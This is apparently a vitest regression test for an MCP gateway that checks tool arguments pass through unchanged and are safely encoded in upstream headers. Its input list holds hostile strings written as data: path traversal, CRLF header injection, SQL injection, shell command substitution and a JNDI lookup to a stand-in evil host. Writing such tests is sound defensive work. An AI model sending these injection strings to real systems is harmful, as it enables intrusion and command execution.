import { describe, expect, it } from 'vitest';
import { startWorld, TOOLS } from '../support/evasion-world.ts';
import { parseAnswerBody } from '../support/mcp-request.ts';

// Row 12, CVE-2026-29791 (agentgateway): arguments of a tool were copied as they were into the path, the query and the headers of the
// request behind it.

const EVIL = [
  '../admin',
  '..%2f..%2fadmin',
  '/absolute?x=1#y',
  'x\r\nX-Injected: yes',
  'x\nHost: evil.example',
  'x\u0000y',
  '"}},"method":"tools/list","x":{"y":"',
  "'; DROP TABLE x; --",
  '$(id)`id`;id|id',
  '=?base64?ZGVsZXRlX3g=?=',
  '${jndi:ldap://evil.example}',
  ' leading and trailing ',
];

/** A tool that wants an argument repeated in a header, which is the one way from an argument into the head of a request. */
const MIRRORING = {
  name: 'read_z_mirrored',
  inputSchema: { type: 'object', properties: { region: { type: 'string', 'x-mcp-header': 'Region' } } },
};

describe.each(['http, modern', 'http, legacy', 'stdio'] as const)('over %s', (transport) => {
  it('every argument arrives as the data that it was, and in no other place', async () => {
    const world = await startWorld({ transport, tools: transport === 'stdio' ? TOOLS : [...TOOLS, MIRRORING] });
    try {
      for (const evil of EVIL) {
        const args = { path: evil, [evil]: 1, deep: [{ evil }] };
        const params = { name: 'crm__read_x', arguments: args };
        const answer = await world.send(world.request('2026-07-28', { params }));
        expect(parseAnswerBody(answer).result).not.toHaveProperty('isError');
        expect(world.crm.calls().at(-1)?.params['arguments']).toEqual(args);
      }
      // A look at which transport it speaks may come first, at the same place.
      const paths = world.crm.server?.requests.map(({ path }) => path) ?? [];
      expect(new Set(paths)).toEqual(new Set(transport === 'stdio' ? [] : ['/mcp']));
      expect(world.crm.bytes()).not.toMatch(/^(?:X-Injected|Host: evil)/im);
    } finally {
      await world.close();
    }
  });
});

it('an argument that the upstream wants in a header is encoded there, whatever it holds', async () => {
  const policy = `
version: 1
upstream: crm
classes: { read: ['read_*'] }
rules: [{ id: all, who: { groups: [staff] }, tools: ['read_*'], effect: allow }]
`;
  const world = await startWorld({ tools: [...TOOLS, MIRRORING], policies: { 'crm.yaml': policy } });
  try {
    for (const evil of EVIL) {
      const params = { name: 'crm__read_z_mirrored', arguments: { region: evil } };
      await world.send(world.request('2026-07-28', { params }));
      const { headers, message } = world.crm.server?.seen('tools/call').at(-1) ?? {};
      expect(message?.params?.['arguments']).toEqual({ region: evil });
      const value = headers?.get('mcp-param-region') ?? '';
      const [, encoded] = /^=\?base64\?(.*)\?=$/.exec(value) ?? [];
      expect(encoded === undefined ? value : Buffer.from(encoded, 'base64').toString()).toBe(evil);
      expect(headers?.has('x-injected')).toBe(false);
      expect(headers?.get('host')).toMatch(/^127\.0\.0\.1:\d+$/);
    }
  } finally {
    await world.close();
  }
});
